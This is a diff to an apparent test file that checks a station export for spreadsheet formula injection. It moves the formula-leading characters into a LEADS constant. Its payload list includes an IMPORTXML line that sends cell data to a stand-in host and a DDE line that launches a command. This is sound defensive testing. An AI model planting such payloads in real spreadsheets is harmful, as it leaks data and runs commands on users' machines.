@@ -31,6 +31,8 @@ PAYLOADS = [
     "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")", "'=1+1", "''=1+1", "=\"a\"", "=A1;=B1", "=1,\"=2\"",
     "==1", "=-1", "@=1", "-@1", "+-1", "=DDE(\"cmd\",\"/C calc\",\"x\")", "\x00=1+1", "\x07=1", "=1\n=2",
 ]  # fmt: skip
+# What a sheet begins to work out, in both widths.
+LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 TEXT_COLUMNS = ["name", "status_reason", "address", "floor", "directions", "phone", "amenities_text", "hours_text"]
 
 
@@ -120,9 +122,7 @@ def test_no_text_column_begins_a_formula(town: None, payload: str) -> None:  # n
     assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}
     texts = [*table[1], *(cell.value for cell in cells if isinstance(cell.value, str))]
     for text in texts:
-        assert not text.lstrip(" \u3000\u00a0").startswith(
-            ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
-        ), text
+        assert not text.lstrip(" \u3000\u00a0").startswith(LEADS), text
     counted("T10", "the export of stations, every text column", payloads=1, cells=len(texts), formulas=0)
 
 
